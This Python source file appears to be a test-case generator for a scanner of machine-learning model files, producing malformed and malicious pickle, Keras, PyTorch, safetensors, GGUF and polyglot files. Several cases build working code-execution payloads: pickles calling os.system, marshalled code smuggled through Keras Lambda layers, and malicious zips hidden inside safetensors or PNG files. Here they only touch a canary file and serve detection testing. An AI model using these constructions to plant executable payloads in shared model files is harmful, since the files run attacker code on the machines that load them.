    yield Case("joblib-short.joblib", "joblib", prog(wrapper + state + b"b"), MALFORMED)
    objects = call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), tup(i(0)), by(b"b"))
    kind_o = call(g("numpy", "dtype"), s("O8"), b"\x89", b"\x88")
    evil_call = call(g("os", "system"), shell(canary))
    yield Case(
        "objects-in-pickle.pkl",
        "object array in a pickle",
        prog(objects + tup(i(1), tup(i(1)), kind_o, b"\x89", b"](" + evil_call + b"e") + b"b"),
        CODE,
    )
    kind_f = call(g("numpy", "dtype"), s("f4"), b"\x89", b"\x88")
    yield Case(
        "array-too-big.pkl",
        "array beyond the file",
        prog(objects + tup(i(1), tup(i(1 << 40)), kind_f, b"\x89", by(b"1234")) + b"b"),
        MALFORMED,
    )


def _scripts(canary: str) -> Iterator[Case]:
    code = marshal.dumps(compile(f"open({canary!r}, 'w').close()", "x", "exec"))
    config = (
        b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": "'
        + code.hex().encode()
        + b'"}}]}}'
    )
    yield Case(
        "lambda.keras",
        "Keras Lambda",
        zipped({"config.json": config, "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}),
        CODE,
    )
    yield Case("lambda.h5", "Keras Lambda", b"\x89HDF\r\n\x1a\n" + bytes(200) + config, CODE)
    yield Case(
        "marshal.pkl",
        "marshalled code",
        prog(
            call(
                call(
                    g("types", "FunctionType"),
                    call(g("marshal", "loads"), by(code)),
                    mapping(__builtins__=call(g("builtins", "__import__"), s("builtins"))),
                )
            )
        ),
        CODE,
    )


def _tensors(canary: str) -> Iterator[Case]:
    """Tensor descriptions their bytes cannot back."""
    big = 1 << 40
    shapes = {
        "offset-outside": tensor(offset=1), "negative-offset": tensor(offset=-1), "negative-stride": tensor(stride=(-2, 1)), "negative-size": tensor((-2, 2)),
        "size-outside": tensor((3, 2)), "stride-outside": tensor(stride=(100, 1)), "expand-bomb": tensor((big, 2), (0, 0)), "overlap-bomb": tensor((big, 1), (0, 1)),
        "size-overflow": tensor((1 << 33, 1 << 33), (1 << 33, 1)), "stride-count": tensor((2, 2), (1,)), "size-text": tensor((2, 2)).replace(i(2), s("2"), 1),
        "many-dims": tensor((1,) * 100, (1,) * 100), "storage-is-number": tensor(store=i(3)), "storage-is-list": tensor(store=b"]"), "huge-size": tensor((1 << 200,), (1,)),
        "count-negative": tensor(store=storage(count=-4)), "count-huge": tensor(store=storage(count=1 << 100)), "few-arguments": call(g("torch._utils", "_rebuild_tensor_v2"), storage()),
        "v3-wrong": tensor(function=g("torch._utils", "_rebuild_tensor_v3")), "dtype-called": call(g("torch", "float32"), i(1)),
    }  # fmt: skip
    for name, body in shapes.items():
        kind = (
            "repeats elements without end"
            if "bomb" in name
            else "tensor outside its storage"
            if "outside" in name or "size" in name
            else "tensor of impossible form"
        )
        yield Case(f"tensor-{name}.pt", kind, torch_zip(prog(mapping(ok=tensor(), w=body))), CODE if name == "dtype-called" else MALFORMED)
    many = prog(mapping(**{f"t{n}": tensor((50_000_000,), (0,)) for n in range(400)}))
    yield Case("tensor-many-expanded.pt", "repeats elements without end", torch_zip(many), MALFORMED)


def _safetensors(canary: str) -> Iterator[Case]:
    one = b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    four = b"\0\0\0\0"
    files = {
        "length-huge": sft(b"{" + one + b"}", four, 1 << 62), "length-past-end": sft(b"{" + one + b"}", b"", 5000), "not-json": sft(b"{nonsense at all!"), "an-array": sft(b'{"a":[]}', b""),
        "deep": sft(b'{"a":' * 50_000), "twice": sft(b"{" + one + b"," + one + b"}", four), "overlap": sft(b"{" + one + b"," + one.replace(b'"a"', b'"b"') + b"}", four),
        "gap": sft(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', bytes(8)), "wrong-size": sft(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4]}}', four),
        "dtype": sft(b'{"a":{"dtype":"X9","shape":[1],"data_offsets":[0,4]}}', four), "negative": sft(b'{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}', four),
        "float-shape": sft(b'{"a":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}}', four), "overflow": sft(b'{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,0]}}', b""),
        "cut": sft(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', four), "metadata-list": sft(b'{"__metadata__":[],' + one + b"}", four),
        "metadata-number": sft(b'{"__metadata__":{"a":1},' + one + b"}", four), "metadata-twice": sft(b'{"__metadata__":{"a":"1","a":"2"},' + one + b"}", four),
        "leading-zero": sft(b'{"a":{"dtype":"F32","shape":[01],"data_offsets":[0,4]}}', four), "extra-comma": sft(b"{" + one + b",}", four),
        "backwards": sft(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,0]}}', four), "nan": sft(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}', four),
        "many-dims": sft(b'{"a":{"dtype":"F32","shape":[' + b",".join([b"1"] * 1000) + b'],"data_offsets":[0,4]}}', four), "surrogate": sft(b'{"\\ud800":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', four),
    }  # fmt: skip
    kinds = {
        "length": "safetensors header length",
        "deep": "safetensors JSON",
        "not": "safetensors JSON",
        "an": "safetensors JSON",
        "nan": "safetensors JSON",
        "extra": "safetensors JSON",
        "leading": "safetensors JSON",
    }
    for name, data in files.items():
        yield Case(f"safetensors-{name}.safetensors", kinds.get(name.split("-")[0], "safetensors entry"), data, MALFORMED)


def _gguf(canary: str) -> Iterator[Case]:
    head = b"GGUF" + struct.pack("<I", 3)
    yield Case("gguf-many-tensors.gguf", "gguf counts", head + struct.pack("<QQ", 1 << 60, 0), MALFORMED)
    yield Case("gguf-many-keys.gguf", "gguf counts", head + struct.pack("<QQ", 0, 1 << 60), MALFORMED)
    yield Case("gguf-long-key.gguf", "gguf lengths", head + struct.pack("<QQQ", 0, 1, 1 << 60) + b"abc", MALFORMED)
    key = struct.pack("<Q", 1) + b"k"
    yield Case(
        "gguf-nested-arrays.gguf",
        "gguf lengths",
        head + struct.pack("<QQ", 0, 1) + key + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 2000,
        MALFORMED,
    )
    info = struct.pack("<Q", 1) + b"t" + struct.pack("<IQIQ", 1, 1 << 50, 0, 0)
    yield Case("gguf-tensor-outside.gguf", "gguf tensors", head + struct.pack("<QQ", 1, 0) + info + bytes(64), MALFORMED)
    yield Case("gguf-cut.gguf", "truncated gguf", head + struct.pack("<QQ", 1, 0) + info[:9], MALFORMED)


def _polyglots(canary: str) -> Iterator[Case]:
    evil = torch_zip(prog(call(g("os", "system"), shell(canary))))
    good = sft(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4))
    yield Case("safetensors-and-zip.safetensors", "polyglot", good + evil, CODE)
    inside = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(evil), len(evil))
    yield Case("zip-inside-the-last-tensor.safetensors", "polyglot", sft(inside, evil), CODE)
    yield Case("png-and-zip.png", "polyglot", b"\x89PNG\r\n\x1a\n" + bytes(64) + evil, CODE)
    yield Case("pickle-and-zip.bin", "polyglot", prog(mapping(a=i(1))) + evil, CODE)
    yield Case("clean-pickle-and-clean-zip.bin", "polyglot", prog(mapping(a=i(1))) + zipped({"a.txt": b"x"}), MALFORMED)
    yield Case("zip-and-zip.pt", "two archives in one", torch_zip(prog(mapping(w=tensor()))) + evil, CODE)
